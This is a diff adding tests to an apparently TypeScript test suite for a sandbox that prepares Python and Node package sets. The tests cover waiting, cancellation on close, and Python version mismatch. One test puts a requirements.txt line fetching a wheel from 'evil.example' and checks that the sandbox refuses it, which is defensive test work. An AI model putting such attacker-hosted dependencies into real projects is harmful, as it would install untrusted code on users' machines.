@@ -183,10 +183,59 @@ print(late.version)`,
 
     const changed = fixture.skill({ ...files, "requirements.txt": "nuts\nlate\n" });
     expect(await sandbox.prepared.lacks(withFiles(changed, Object.keys(files)))).toContain("changed since");
+    const elsewhere = withFiles(
+      fixture.skill({ ...files, "requirements.txt": "nuts @ https://evil.example/nuts.whl\n" }),
+      Object.keys(files),
+    );
+    expect(await sandbox.prepared.lacks(elsewhere)).toContain("is no package");
+    expect(await sandbox.prepared.prepare(elsewhere, "ada")).toMatchObject({ ok: false, status: 409 });
     await sandbox.prepared.drop("probe");
     expect(await script("scripts/run.py")).toMatchObject({ exit_code: 1 });
     const left = (await sandbox.prepared.list()).sets.filter((set) => set.skill === "probe");
     expect(left).toEqual([]);
+  });
+
+  it("goes on where it takes long, says how it does, and prepares nothing else meanwhile", async () => {
+    const patient = await createSandbox({
+      ...{ dataDir: join(fixture.root, "other"), preparePatienceMs: 0 },
+      ...servers.options,
+    });
+    expect(await patient.prepared.add("python", ["nuts"], "ada")).toMatchObject({
+      ok: true,
+      value: { state: "working", message: expect.stringContaining("knack sandbox list") },
+    });
+    expect(await patient.prepared.add("node", ["oak"], "ben")).toMatchObject({ ok: false, status: 409 });
+    expect(await patient.prepared.list()).toMatchObject({ sets: [], working: { what: "Python: nuts" } });
+    await expect
+      .poll(async () => (await patient.prepared.list()).working, { timeout: longest })
+      .toBeUndefined();
+    expect(await patient.prepared.list()).toMatchObject({ sets: [{ asked: ["nuts"] }], last: { ok: true } });
+  });
+
+  it("stops what is being prepared when it is closed, and leaves nothing of it", async () => {
+    const dataDir = join(fixture.root, "closed");
+    const closing = await createSandbox({ dataDir, ...servers.options, preparePatienceMs: 0 });
+    await closing.prepared.add("python", ["nuts"], "ada");
+    await closing.close();
+    expect(await closing.prepared.list()).toMatchObject({ sets: [], last: { ok: false } });
+    expect(await readdir(join(dataDir, "prepared", "python"))).toEqual([]);
+  });
+
+  it("says when the machine's Python is another one, and shows code nothing then", async () => {
+    await done(sandbox.prepared.add("python", ["nuts"], "ada"));
+    const version = join(prepared, "python", await readFile(join(prepared, "python", "current"), "utf8"));
+    const text = await readFile(join(version, "set.json"), "utf8");
+    const runtime = JSON.parse(text).runtime;
+    await writeFile(join(version, "set.json"), text.replace(`"runtime": "${runtime}"`, '"runtime": "3.1"'));
+    sandbox = await createSandbox({ dataDir: fixture.dataDir, ...servers.options });
+    const { sets } = await sandbox.prepared.list();
+    expect(sets.find(({ language }) => language === "python")?.problem).toBe(
+      `It was prepared for Python 3.1, and it is Python ${runtime} now: no code sees it. Prepare it again with \`knack sandbox add python\`.`,
+    );
+    expect(await printed("python", "import nuts")).toContain("No module named");
+    expect((await sandbox.code.means()) as object).not.toHaveProperty("packages.python");
+    await done(sandbox.prepared.add("python", [], "ada"));
+    expect(await printed("python", "import nuts\nprint(nuts.version)")).toBe("0.1\n");
   });
 
   it("asks nothing of a skill whose list no code of it needs", async () => {
